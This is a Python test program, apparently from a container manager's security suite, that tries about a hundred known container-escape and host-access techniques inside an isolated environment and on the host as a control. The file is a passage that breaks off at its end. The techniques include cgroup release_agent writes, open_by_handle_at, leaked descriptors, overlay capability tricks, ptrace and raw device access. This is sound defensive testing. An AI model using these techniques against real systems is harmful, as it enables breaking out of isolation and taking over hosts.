# SPDX-License-Identifier: GPL-2.0-or-later
"""What a hostile root of a VE tries, one function per act; the same program runs in a VE and, as control, on the host.

    python3 acts.py PARAMETERS.json [NAME...]

An act that succeeds returns a few words on what it got; one that the kernel refuses raises `OSError`. Each runs in a
child of its own with a deadline. On standard output comes a line of JSON per act: [name, verdict, words]. The verdict
is "through", "refused" (with one of the errors that `act` lists), "absent" (a control only: this kernel has nothing of
the kind), or "broken", which is none of them: a mistake in the act must not pass for a refusal. Nothing here does harm
on a host: what would be changed gets the value that it has.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import sys
import tempfile
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
DEADLINE = 20  # seconds for one act
BUFFER = ctypes.create_string_buffer(4096)

# asm/unistd.h; those from 424 on have the same number everywhere.
NUMBERS = {
    "x86_64": {
        "ptrace": 101, "syslog": 103, "ustat": 136, "pivot_root": 155, "acct": 163, "settimeofday": 164, "mount": 165,
        "umount2": 166, "swapon": 167, "reboot": 169, "iopl": 172, "ioperm": 173, "init_module": 175,
        "delete_module": 176, "quotactl": 179, "clock_settime": 227, "kexec_load": 246, "add_key": 248,
        "request_key": 249, "keyctl": 250, "migrate_pages": 256, "unshare": 272, "perf_event_open": 298,
        "fanotify_init": 300, "name_to_handle_at": 303, "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308,
        "process_vm_readv": 310, "kcmp": 312, "finit_module": 313, "bpf": 321, "userfaultfd": 323,
    },
    "aarch64": {
        "umount2": 39, "mount": 40, "pivot_root": 41, "quotactl": 60, "acct": 89, "unshare": 97, "kexec_load": 104,
        "init_module": 105, "delete_module": 106, "clock_settime": 112, "syslog": 116, "ptrace": 117, "reboot": 142,
        "settimeofday": 170, "add_key": 217, "request_key": 218, "keyctl": 219, "swapon": 224, "migrate_pages": 238,
        "perf_event_open": 241, "fanotify_init": 262, "name_to_handle_at": 264, "open_by_handle_at": 265,
        "clock_adjtime": 266, "setns": 268, "process_vm_readv": 270, "kcmp": 272, "finit_module": 273, "bpf": 280,
        "userfaultfd": 282,
    },
}[platform.machine()] | {
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fsconfig": 431, "fsmount": 432,
    "pidfd_open": 434, "pidfd_getfd": 438, "mount_setattr": 442, "quotactl_fd": 443, "memfd_secret": 447,
}
NEWUSER, NEWNS, NEWPID, NEWIPC = 0x10000000, 0x20000, 0x20000000, 0x08000000
BIND, MOVE, REC, REMOUNT, RDONLY, PRIVATE, DETACH = 4096, 8192, 16384, 32, 1, 1 << 18, 2
AT_FDCWD = -100
ABSENT = {"ENOSYS", "ENOENT", "ENXIO", "ENODEV", "EAFNOSUPPORT"}  # errors of a host that does not have it at all

ACTS = {}
PARAMETERS = {}


def act(source, *others):
    """Register an act. `source`: the CVE, tool or paper it comes from. `others`: errors that mean "refused" beside
    the plain ones."""
    def register(function):
        name = function.__name__.replace("_", "-")
        ACTS[name] = function, source, {"EPERM", "EACCES", "EROFS", "ENOSYS", *others}
        return function
    return register


def syscall(name, *arguments):
    """Raises `OSError`."""
    widened = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(NUMBERS[name]), *widened)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


def reached(codes, name, *arguments):
    """A call with arguments that are nonsense: `codes` are the errors that come after the permission was checked."""
    try:
        return f"{name} gave {syscall(name, *arguments)}"
    except OSError as error:
        if errno.errorcode[error.errno] in codes:
            return f"{name} came as far as {errno.errorcode[error.errno]}"
        raise


def mount(source, target, fstype, flags=0, data=""):
    syscall("mount", source.encode(), target.encode(), fstype.encode(), flags, data.encode())


def umount(target, flags=0):
    syscall("umount2", target.encode(), flags)


def unshare(flags):
    syscall("unshare", flags)


def place():
    """A new directory of our own."""
    return tempfile.mkdtemp(prefix="act-", dir=PARAMETERS["tmp"])


def refuse(why):
    """The act went as far as it could and found nothing: for acts that look instead of being told no."""
    raise PermissionError(errno.EACCES, why)


def own_mounts():
    """On the host: a mount namespace that the rest of the world does not see. In a VE it does no harm."""
    unshare(NEWNS)
    mount("none", "/", "", REC | PRIVATE)


def in_nested_user_namespace(function, flags=NEWNS):
    """Run `function` as root of a new user namespace, in a child; what it returns or raises comes back."""
    def inside():
        uid, gid = os.geteuid(), os.getegid()
        unshare(NEWUSER | flags)
        for file, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{file}", "w") as out:
                out.write(text)
        return function()
    return in_child(inside)


def in_child(function):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            answer = ["through", function()]
        except OSError as error:
            answer = ["error", error.errno, str(error)]
        except BaseException as error:
            answer = ["broken", f"{type(error).__name__}: {error}"]
        os.write(writer, json.dumps(answer).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as file:
        answer = json.loads(file.read() or '["broken", "no answer"]')
    os.waitpid(pid, 0)
    if answer[0] == "error":
        raise OSError(answer[1], answer[2])
    assert answer[0] == "through", answer
    return answer[1]


# Code into the kernel

@act("moby default profile")
def load_module():
    return reached({"ENOEXEC", "EINVAL"}, "init_module", b"garbage", 7, b"")


@act("moby default profile")
def load_module_from_file():
    with open("/proc/self/exe", "rb") as file:
        return reached({"ENOEXEC", "EINVAL"}, "finit_module", file.fileno(), b"", 0)


@act("moby default profile")
def unload_module():
    return reached({"ENOENT"}, "delete_module", b"no-such-module-xyz", os.O_NONBLOCK)


@act("moby default profile")
def load_bpf_program():
    code = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0))
    licence = ctypes.create_string_buffer(b"GPL")
    attributes = struct.pack("=IIQQIIQI", 1, 2, ctypes.addressof(code), ctypes.addressof(licence), 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(attributes, 128)
    return f"descriptor {syscall('bpf', 5, buffer, 128)}"


@act("kexec_load(2): another kernel")
def load_kernel():
    return reached({"EINVAL"}, "kexec_load", 0, 0, 0, 0xFF)


@act("a program that the kernel runs", "ENOENT")
def set_modprobe_path():
    return rewrite("/proc/sys/kernel/modprobe")


@act("core(5): a handler that the host runs")
def set_core_pattern():
    return rewrite("/proc/sys/kernel/core_pattern")


@act("CVE-2022-0492", "EINVAL", "ENODEV")
def set_release_agent():
    return release_agent()


@act("CVE-2022-0492", "EINVAL", "ENODEV", "ENOSPC")
def set_release_agent_from_nested_namespace():
    return release_agent() if os.geteuid() == 0 and PARAMETERS["control"] else in_nested_user_namespace(release_agent)


def release_agent():
    own_mounts()
    target = place()
    mount("none", target, "cgroup", 0, "none,name=vemgr-escape-test")
    try:
        with open(f"{target}/release_agent", "w") as file:
            file.write("/bin/true")
        return "release_agent is written"
    finally:
        umount(target)


def rewrite(path):
    """Write what a file holds into it again."""
    with open(path) as file:
        value = file.read()
    with open(path, "w") as file:
        file.write(value)
    return f"wrote {path}"


# Hardware and devices

def open_node(kind, device, flags=os.O_RDONLY):
    path = f"{place()}/node"
    os.mknod(path, kind | 0o600, os.makedev(*device))
    os.close(os.open(path, flags | os.O_NONBLOCK))
    return f"opened device {device[0]}:{device[1]}"


@act("CDK: mknod of a disk")
def open_disk():
    for device in PARAMETERS["disks"][:-1]:
        with contextlib.suppress(OSError):
            return open_node(stat.S_IFBLK, device)
    return open_node(stat.S_IFBLK, PARAMETERS["disks"][-1])


@act("deepce: /dev/mem")
def open_memory():
    return open_node(stat.S_IFCHR, (1, 1))


@act("deepce: /dev/port")
def open_io_ports():
    return open_node(stat.S_IFCHR, (1, 4))


@act("the kernel log by its device")
def open_kernel_log_device():
    return open_node(stat.S_IFCHR, (1, 11))


@act("loop devices belong to the host")
def open_loop_control():
    return open_node(stat.S_IFCHR, (10, 237))


@act("CDK: a disk through a file system of one's own", "ENOENT", "ENODEV", "ENXIO")
def open_device_through_own_file_system():
    own_mounts()
    target = place()
    mount("none", target, "tmpfs", 0, "mode=755")  # no "nodev"
    path = f"{target}/node"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 11))
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    return "opened"


@act("a fresh devtmpfs is the host's /dev")
def mount_devtmpfs():
    own_mounts()
    target = place()
    mount("none", target, "devtmpfs")
    return f"{len(os.listdir(target))} nodes"


@act("disk images parsed by the kernel", "ENODEV")
def mount_disk_image():
    own_mounts()
    with tempfile.NamedTemporaryFile(dir=PARAMETERS["tmp"]) as image:
        try:
            mount(image.name, place(), "ext4")
        except OSError as error:
            if error.errno != errno.ENOTBLK:
                raise
    return "the file system looked for its disk"


@act("ioperm(2)")
def raise_io_privilege():
    return f"iopl gave {syscall('iopl', 3)}"


@act("ioperm(2)")
def get_io_ports():
    return f"ioperm gave {syscall('ioperm', 0x80, 1, 1)}"


@act("sysrq.rst", "ENOENT")
def open_sysrq():
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "open for writing"


@act("deepce: kernel memory as a file", "ENOENT")
def read_kcore():
    with open("/proc/kcore", "rb") as file:
        return "an image" if file.read(64) else refuse("empty")


@act("rowhammer: physical addresses")
def read_physical_addresses():
    page = ctypes.addressof(BUFFER) // resource.getpagesize()
    BUFFER[0] = b"x"
    with open("/proc/self/pagemap", "rb", buffering=0) as file:
        file.seek(page * 8)
        entry = struct.unpack("Q", file.read(8))[0]
    return f"frame {entry & (1 << 55) - 1:#x}" if entry & (1 << 55) - 1 else refuse("zero")


@act("KASLR")
def read_kernel_symbols():
    with open("/proc/kallsyms") as file:
        line = file.readline()
    return line.strip() if int((line.split() or ["0"])[0], 16) else refuse("no addresses")


# The kernel log, keyrings

@act("dmesg: addresses, and what other VEs did")
def read_kernel_log():
    return f"{syscall('syslog', 3, BUFFER, len(BUFFER))} bytes"


@act("moby default profile: keyrings have no namespace of their own")
def add_key():
    return f"key {syscall('add_key', b'user', b'vemgr-escape', b'x', 1, -4)}"


@act("the administrator's session keyring", "ENOKEY")
def see_session_keyring():
    serial = syscall("keyctl", 0, -3, 0)
    return f"session keyring {serial}"


@act("request-key: a program that the host runs", "ENOKEY")
def request_key():
    try:
        return f"key {syscall('request_key', b'user', b'vemgr-escape-none', 0, 0)}"
    except OSError as error:
        if error.errno == errno.ENOKEY:
            return "looked for a key"
        raise


@act("keys of all users")
def list_keys():
    return read("/proc/key-users")


# Masks and mounts

def uncover():
    """Take away what lies over a file of /proc. The control lays something there first."""
    path = "/proc/kallsyms"
    own_mounts()
    if PARAMETERS["control"]:
        mount("/dev/null", path, "", BIND)
    umount(path, DETACH)
    return "uncovered"


@act("CVE-2025-31133's aim: a mask taken off", "EINVAL")
def unmount_mask():
    return uncover()


@act("CVE-2025-31133's aim, from a nested user namespace", "EINVAL", "ENOSPC")
def unmount_mask_nested():
    return uncover() if PARAMETERS["control"] else in_nested_user_namespace(uncover)


@act("mount_namespaces(7)", "EINVAL")
def move_mask():
    own_mounts()
    if PARAMETERS["control"]:
        mount("/proc/version", "/proc/kallsyms", "", BIND)
    os.close(os.open(f"{(target := place())}/x", os.O_CREAT))
    mount("/proc/kallsyms", f"{target}/x", "", MOVE)
    return "moved"


@act("mount_namespaces(7)", "EINVAL")
def bind_proc_without_masks():
    own_mounts()
    mount("/proc", target := place(), "", BIND)
    umount(target)
    return "bound without what lies on it"


@act("mount_namespaces(7), with the new interface", "EINVAL")
def clone_proc_without_masks():
    return f"descriptor {syscall('open_tree', AT_FDCWD, b'/proc', 1)}"


@act("mount_namespaces(7)", "EINVAL")
def unmount_proc():
    own_mounts()
    mount("/proc", target := place(), "", BIND | REC)
    if PARAMETERS["control"]:
        umount(target, DETACH)
        return "the copy is gone"
    umount("/proc", DETACH)
    return "what is below shows"


def remount(path):
    own_mounts()
    if PARAMETERS["control"]:
        mount(path, path, "", BIND)
        mount("none", path, "", BIND | REMOUNT | RDONLY)
    mount("none", path, "", BIND | REMOUNT)
    return f"{path} is writable"


@act("CDK: remount of /proc/sys")
def make_proc_sys_writable():
    return remount("/proc/sys")


@act("CDK: remount of /sys")
def make_sys_writable():
    return remount("/sys")


@act("mount_setattr(2)")
def make_sys_writable_by_attribute():
    own_mounts()
    if PARAMETERS["control"]:
        mount("/sys", "/sys", "", BIND)
        mount("none", "/sys", "", BIND | REMOUNT | RDONLY)
    attributes = ctypes.create_string_buffer(struct.pack("=QQQQ", 0, 1, 0, 0), 32)
    syscall("mount_setattr", AT_FDCWD, b"/sys", 0, attributes, 32)
    return "/sys is writable"


def fresh(fstype):
    own_mounts()
    mount("none", place(), fstype)
    return f"a {fstype} without masks"


@act("CDK: a /proc without masks", "EBUSY")
def mount_fresh_proc():
    return fresh("proc")


@act("CVE-2025-52881's aim: a /proc without masks, for a pid namespace of one's own", "EBUSY", "ENOSPC")
def mount_fresh_proc_nested():
    def inside():
        unshare(NEWPID)
        return in_child(lambda: fresh("proc"))
    return in_nested_user_namespace(inside) if not PARAMETERS["control"] else in_child(inside)


@act("CDK: a /sys without masks", "EBUSY")
def mount_fresh_sysfs():
    return fresh("sysfs")


@act("fsopen(2)", "EBUSY")
def mount_fresh_proc_by_new_interface():
    context = syscall("fsopen", b"proc", 0)
    syscall("fsconfig", context, 6, 0, 0, 0)
    return f"descriptor {syscall('fsmount', context, 0, 0)}"


@act("kernel file systems that show the host", "EBUSY", "ENODEV")
def mount_kernel_file_systems():
    own_mounts()
    got, last = [], None
    for fstype in ("debugfs", "tracefs", "securityfs", "pstore", "configfs", "efivarfs", "selinuxfs"):
        try:
            mount("none", place(), fstype)
            got.append(fstype)
        except OSError as error:
            last = error
    if not got:
        raise last
    return " ".join(got)


# The way to the host's files

def marker():
    """Whether we see the host's files: the marker lies where no VE has it."""
    try:
        with open(PARAMETERS["marker"].lstrip("/")) as file:
            return file.read()
    except FileNotFoundError:
        return refuse("the host's files are not there")


@act("chroot(2): escape from a chroot by a second one")
def chroot_twice():
    inner = place()
    if PARAMETERS["control"]:
        os.chroot(PARAMETERS["tmp"])
        os.chdir("/")
        inner = f"/{os.path.basename(inner)}"
    os.chroot(inner)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return marker()


@act("pivot_root(2): what the old root was", "EINVAL", "EBUSY")
def pivot_out():
    own_mounts()
    if PARAMETERS["control"]:
        new = place()
        mount(new, new, "", BIND)
        os.chdir(new)
        os.mkdir("old")
        syscall("pivot_root", b".", b"old")
        os.chdir("/old")
        return marker()
    os.chdir("/")
    syscall("pivot_root", b".", b".")
    umount("/", DETACH)
    os.chdir("/")
    return marker()


@act("the root that lies below ours", "EINVAL")
def unmount_root():
    own_mounts()
    if PARAMETERS["control"]:
        mount("none", "/", "tmpfs")
    os.chdir("/")
    umount("/", DETACH)
    os.chroot("/")
    os.chdir("/")
    for _ in range(64):
        os.chdir("..")
    return marker()


@act("setns(2) brings the root of the mount namespace")
def enter_own_mount_namespace_again():
    if PARAMETERS["control"]:
        fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
        os.chroot(place())
    else:
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    syscall("setns", fd, NEWNS)
    os.chdir("/")
    return marker()


@act("shocker (2014): any file by its handle", "EOPNOTSUPP", "ESTALE")
def open_by_handle():
    path = PARAMETERS["marker"] if PARAMETERS["control"] else "/etc/passwd"
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount_id = ctypes.c_int()
    syscall("name_to_handle_at", AT_FDCWD, path.encode(), handle, ctypes.byref(mount_id), 0)
    root = os.open("/", os.O_RDONLY)
    if PARAMETERS["control"]:
        root = os.open(os.path.dirname(path), os.O_RDONLY)
    return f"descriptor {syscall('open_by_handle_at', root, handle, 0)}"


@act("shocker, with a handle made up", "EOPNOTSUPP")
def open_invented_handle():
    handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0), 136)
    return reached({"ESTALE"}, "open_by_handle_at", os.open("/", os.O_RDONLY), handle, 0)


@act("CVE-2024-21626: descriptors that were left open", "ENOENT")
def use_leaked_descriptors():
    if PARAMETERS["control"]:
        os.dup2(os.open("/", os.O_RDONLY), 7)
    for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError):
            inside = os.open(PARAMETERS["marker"].lstrip("/"), os.O_RDONLY, dir_fd=fd)
            return f"descriptor {fd}: {os.read(inside, 100).decode()}"
    return refuse("none of them leads to the host")


@act("CVE-2024-21626: a working directory that was left", "ENOENT")
def use_leaked_working_directory():
    if PARAMETERS["control"]:
        os.chdir("/usr")
        os.chroot(place())
    for _ in range(64):
        os.chdir("..")
    return marker()


@act("symlinks of /proc/PID: root, cwd, fd, exe, map_files of process 1", "ENOENT")
def look_through_process_1():
    pid = PARAMETERS.get("victim", 1)
    for path in (f"/proc/{pid}/root/{PARAMETERS['marker']}", f"/proc/{pid}/cwd/../../../../{PARAMETERS['marker']}"):
        with contextlib.suppress(OSError), open(path) as file:
            return file.read()
    return f"its program is {os.readlink(f'/proc/{pid}/exe')}"


# Other processes

@act("ptrace(2)", "ESRCH")
def trace_process_1():
    pid = PARAMETERS.get("victim", 1)
    syscall("ptrace", 16, pid, 0, 0)
    os.waitpid(pid, 0)
    syscall("ptrace", 17, pid, 0, 0)
    return "attached"


@act("process_vm_readv(2)", "ESRCH")
def read_memory_of_process_1():
    pid = PARAMETERS.get("victim", 1)
    with open(f"/proc/{pid}/mem", "rb") as memory, open(f"/proc/{pid}/maps") as maps:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return f"{len(memory.read(16))} bytes"


@act("pidfd_getfd(2)", "ESRCH", "EBADF")
def take_descriptor_of_process_1():
    pidfd = os.pidfd_open(PARAMETERS.get("victim", 1))
    return f"descriptor {syscall('pidfd_getfd', pidfd, 0, 0)}"


@act("signals", "ESRCH")
def signal_host_processes():
    os.kill(PARAMETERS["host-pid"], 0)
    return "it is there"


@act("signals by way of process groups and owners of descriptors", "ESRCH")
def signal_by_descriptor_owner():
    one, _two = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETOWN, PARAMETERS["host-pid"])
    return "owner set" if fcntl.fcntl(one, fcntl.F_GETOWN) == PARAMETERS["host-pid"] else refuse("not its owner")


@act("tty_ioctl(4), TIOCSTI", "EIO", "ENOTTY")
def type_into_terminal():
    # A terminal of our own, to ask the kernel and the filter; the administrator's is not to be had (test_exec).
    os.setsid()
    _master, slave = os.openpty()
    fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
    fcntl.ioctl(slave, 0x5412, b"x")
    return "typed"


@act("tty_ioctl(4), TIOCLINUX: CVE-2023-28339")
def paste_into_console():
    _master, slave = os.openpty()
    try:
        fcntl.ioctl(slave, 0x541C, b"\x03")
    except OSError as error:
        if error.errno != errno.ENOTTY:
            raise
    return "the terminal was asked"


@act("the scheduler: a real-time loop starves the host")
def become_real_time():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "SCHED_FIFO"


@act("the scheduler: ahead of everybody")
def become_important():
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    return f"nice {os.getpriority(os.PRIO_PROCESS, 0)}"


# The host's settings

def open_for_writing(top, apart_from=()):
    """How many files below `top` can be opened for writing."""
    got = []
    for directory, names, files in os.walk(top):
        names[:] = [name for name in names if f"{directory}/{name}" not in apart_from
                    and not os.path.islink(f"{directory}/{name}")]
        for name in files:
            path = f"{directory}/{name}"
            with contextlib.suppress(OSError):
                if stat.S_ISREG(os.lstat(path).st_mode):
                    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                    got.append(path)
    return f"{len(got)}: {' '.join(got[:5])}" if got else refuse(f"none below {top}")


@act("CVE-2025-52881's class: settings of the host")
def write_kernel_settings():
    return open_for_writing("/proc/sys", apart_from=("/proc/sys/net",))


@act("CDK: /sys, uevent helpers and the like")
def write_sysfs():
    return open_for_writing("/sys", apart_from=("/sys/fs/cgroup", "/sys/kernel/debug", "/sys/kernel/tracing"))


@act("clock_settime(2)")
def set_clock():
    now = time.clock_gettime_ns(time.CLOCK_REALTIME)
    time_ = ctypes.create_string_buffer(struct.pack("=qq", now // 10**9, now % 10**9), 16)
    return f"clock_settime gave {syscall('clock_settime', 0, time_)}"


@act("adjtimex(2)")
def adjust_clock():
    state = ctypes.create_string_buffer(208)
    syscall("clock_adjtime", 0, state)  # reads
    struct.pack_into("=I", state, 0, 0x4000)  # ADJ_TICK, to what it is
    return f"clock_adjtime gave {syscall('clock_adjtime', 0, state)}"


@act("settimeofday(2)")
def set_clock_the_old_way():
    return reached({"EINVAL"}, "settimeofday", 0, ctypes.create_string_buffer(struct.pack("=ii", 9999, 0), 8))


@act("swapon(2)")
def swap_on():
    with tempfile.NamedTemporaryFile(dir=PARAMETERS["tmp"]) as file:
        file.truncate(1 << 16)
        return reached({"EINVAL"}, "swapon", file.name.encode(), 0)


@act("quotactl(2)")
def set_quota():
    return reached({"ENOENT", "ENOTBLK", "ESRCH"}, "quotactl", 0x800002 << 8, b"/no/such/disk", 0, 0)


@act("acct(2)")
def account_processes():
    return reached({"ENOENT"}, "acct", b"/no/such/file")


@act("reboot(2): in a pid namespace it ends that; what is left is the host's", "EINVAL")
def disable_ctrl_alt_del():
    with open("/proc/sys/kernel/ctrl-alt-del") as file:
        now = int(file.read())
    return f"reboot gave {syscall('reboot', 0xFEE1DEAD, 672274793, 0x89ABCDEF if now else 0, 0)}"


@act("sethostname(2)")
def rename_host():
    unshare(0x04000000) if PARAMETERS["control"] else None
    socket.sethostname("taken")
    # In a VE the name is its own: the test looks at the host's.
    return "renamed" if PARAMETERS["control"] else refuse("only the VE is renamed")


# cgroups

@act("limits are the host's to set")
def write_own_limits():
    top = PARAMETERS["cgroup"] if PARAMETERS["control"] else "/sys/fs/cgroup"
    got = []
    for name in os.listdir(top):
        if name not in ("cgroup.procs", "cgroup.threads", "cgroup.subtree_control") and os.path.isfile(f"{top}/{name}"):
            with contextlib.suppress(OSError):
                os.close(os.open(f"{top}/{name}", os.O_WRONLY))
                got.append(name)
    return " ".join(sorted(got)) if got else refuse("none of them")


@act("cgroups(7): out of one's own part of the tree", "EBUSY", "ENOENT")
def see_cgroups_above():
    own_mounts()
    mount("none", target := place(), "cgroup2")
    # The root of the whole tree has no cgroup.type.
    return refuse("it is our own part") if os.path.exists(f"{target}/cgroup.type") else "the whole tree"


@act("cgroups(7): a process of one's own put elsewhere", "ENOENT", "EBUSY")
def leave_cgroup():
    own_mounts()
    mount("none", target := place(), "cgroup2")
    path = f"{target}{PARAMETERS['outside']}"
    with open(f"{path}/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))
    return "moved"


@act("cgroup.max.descendants", "EAGAIN")
def make_countless_cgroups():
    top = "/sys/fs/cgroup"
    if PARAMETERS["control"]:
        top = f"{os.path.dirname(PARAMETERS['cgroup'])}/escape-control"
        os.mkdir(top)
    made = []
    try:
        for number in range(2500):
            os.mkdir(f"{top}/act{number}")
            made.append(f"{top}/act{number}")
        return f"{len(made)} cgroups"
    finally:
        for path in made:
            os.rmdir(path)
        if PARAMETERS["control"]:
            os.rmdir(top)


# Large or shared interfaces of the kernel

@act("perf_event_open(2)", "ENOENT")
def measure_performance():
    attributes = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 128, 0), 128)  # PERF_TYPE_SOFTWARE, cpu clock
    return f"descriptor {syscall('perf_event_open', attributes, -1, 0, -1, 0)}"


@act("userfaultfd(2): makes races of the kernel winnable")
def open_userfaultfd():
    return f"descriptor {syscall('userfaultfd', 0)}"


@act("io_uring: 60 % of what Google's kCTF was sent in 2022")
def open_io_uring():
    return f"descriptor {syscall('io_uring_setup', 1, ctypes.create_string_buffer(120))}"


@act("fanotify(7): opens of the whole host")
def watch_all_opens():
    return f"descriptor {syscall('fanotify_init', 0, 0)}"


@act("vsock(7): services of the host's hypervisor", "EAFNOSUPPORT")
def reach_hypervisor():
    with socket.socket(40, socket.SOCK_STREAM):  # AF_VSOCK, which has no namespaces
        return "a socket"


@act("AF_ALG: crypto in the kernel", "EAFNOSUPPORT")
def open_kernel_crypto():
    with socket.socket(38, socket.SOCK_SEQPACKET):  # AF_ALG
        return "a socket"


@act("CVE-2017-6074 (DCCP), CVE-2019-8956 (SCTP), CVE-2022-4129 (L2TP): what the host loads for anybody who asks",
     "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT")
def open_rare_protocols():
    got = []
    for family in (2, 10):
        for type_, protocol in ((1, 132), (5, 132), (6, 33), (6, 0), (2, 115), (3, 115)):
            with contextlib.suppress(OSError), socket.socket(family, type_, protocol):
                got.append(f"{family}/{type_}/{protocol}")
    if not got:
        raise OSError(errno.EPROTONOSUPPORT, "none of these protocols")
    return f"sockets {' '.join(got)}"


@act("socket families that nobody audits: CAN, TIPC, RDS, XDP and the like",
     "EAFNOSUPPORT", "ESOCKTNOSUPPORT", "EPROTONOSUPPORT", "EINVAL")
def open_rare_sockets():
    got, last = [], None
    for family in (3, 5, 6, 9, 19, 21, 29, 30, 31, 36, 39, 41, 42, 43, 44):
        for type_ in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            try:
                socket.socket(family, type_).close()
                got.append(str(family))
                break
            except OSError as error:
                last = error
    if not got:
        raise last
    return f"families {' '.join(got)}"


@act("personality(2): what is executed next is weakened")
def set_personality():
    libc.personality.restype = ctypes.c_int
    before = libc.personality(ctypes.c_ulong(0xFFFFFFFF))
    if libc.personality(ctypes.c_ulong(0x0400000)) < 0:  # READ_IMPLIES_EXEC
        raise OSError(ctypes.get_errno(), "personality")
    libc.personality(ctypes.c_ulong(before))
    return "READ_IMPLIES_EXEC"


@act("memfd_secret(2): memory that the host cannot see into")
def hide_memory():
    return f"descriptor {syscall('memfd_secret', 0)}"


@act("migrate_pages(2): another process's memory moved")
def move_memory_of_others():
    nodes = ctypes.create_string_buffer(struct.pack("=Q", 1), 8)
    return f"migrate_pages gave {syscall('migrate_pages', 0, 64, nodes, nodes)}"


# The daemon and the keeper

def connect_to(name):
    places = [f"{prefix}{PARAMETERS[name]}" for prefix in ("", "/proc/1/root", "/proc/1/cwd/../../../..")]
    with open("/proc/net/unix") as file:
        places += [f"\0{line.split()[-1][1:]}" for line in file if line.split()[-1].startswith("@")]
    for path in places:
        # SOCK_STREAM is the API's, SOCK_SEQPACKET the keeper's
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as client:
                client.connect(path)
                return f"connected to {path!r}"
    return refuse("no way leads there")


@act("CVE-2020-15257: the API by a socket")
def connect_to_daemon():
    return connect_to("api-socket")


@act("CVE-2020-15257: the parent of all VEs by a socket")
def connect_to_keeper():
    return connect_to("keeper-socket")


# User namespaces and overlays

def overlay_as_root_of_nested(lower, upper, work, merged):
    mount("none", "/", "", REC | PRIVATE)
    mount("overlay", merged, "overlay", 0, f"lowerdir={lower},upperdir={upper},workdir={work},userxattr")
    return merged


def privileged_file(make):
    """As user 1000 and root of a user namespace of one's own, with an overlay: bring about a file that makes root of
    whoever runs it outside. `make` gets lower directory and a function that mounts the overlay on it. The control is
    root, who may make such a file: what finds it works."""
    top = place()
    os.chmod(top, 0o755)
    lower, upper, work, merged = (f"{top}/{name}" for name in ("lower", "upper", "work", "merged"))
    for name in (lower, upper, work, merged):
        os.mkdir(name)
        os.chown(name, 1000, 1000)
    with open(f"{lower}/program", "wb") as file:
        file.write(b"x")
    os.chmod(f"{lower}/program", 0o755)
    if PARAMETERS["control"]:
        make(lower, lower, upper)
    else:
        def as_user():
            os.setgroups([])
            os.setresgid(1000, 1000, 1000)
            os.setresuid(1000, 1000, 1000)
            libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, or /proc/self would be root's

            def nested():
                overlay_as_root_of_nested(lower, upper, work, merged)
                make(lower, merged, upper)
                return ""
            return in_nested_user_namespace(nested)
        with contextlib.suppress(OSError):
            in_child(as_user)
    for directory in (lower, upper):
        for name in os.listdir(directory):
            found = os.lstat(f"{directory}/{name}")
            if found.st_uid == 0 and found.st_mode & stat.S_ISUID:
                return f"{name} is root's and set-user-ID"
            with contextlib.suppress(OSError):
                capability = os.getxattr(f"{directory}/{name}", "security.capability")
                if struct.unpack("<I", capability[:4])[0] >> 24 == 2:  # VFS_CAP_REVISION_2: not bound to a namespace
                    return f"{name} has capabilities"
    return refuse("no such file has come about")


_ALL_CAPABILITIES = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)


@act("CVE-2021-3493, CVE-2023-2640: file capabilities through an overlay", "ENOSPC")
def gain_capabilities_through_overlay():
    def make(_lower, merged, _upper):
        os.setxattr(f"{merged}/program", "security.capability", _ALL_CAPABILITIES)
    return privileged_file(make)


@act("CVE-2023-0386: a set-user-ID file copied up", "ENOSPC")
def gain_set_user_id_through_overlay():
    def make(_lower, merged, _upper):
        if not PARAMETERS["control"]:
            mount("none", f"{merged}", "tmpfs")  # what a FUSE file system was in the original
        with open(f"{merged}/program2", "wb") as file:
            file.write(b"x")
        os.chown(f"{merged}/program2", 0, 0)
        os.chmod(f"{merged}/program2", 0o4755)
    return privileged_file(make)


# Reading what is the host's

def read(path):
    with open(path, "rb") as file:
        return f"{len(text)} bytes" if (text := file.read(1 << 20)) else refuse("empty")


@act("ContainerLeaks, DSN 2017: how the kernel was built")
def read_kernel_configuration():
    return read("/proc/config.gz")


@act("ContainerLeaks, DSN 2017: what the administrator told the kernel")
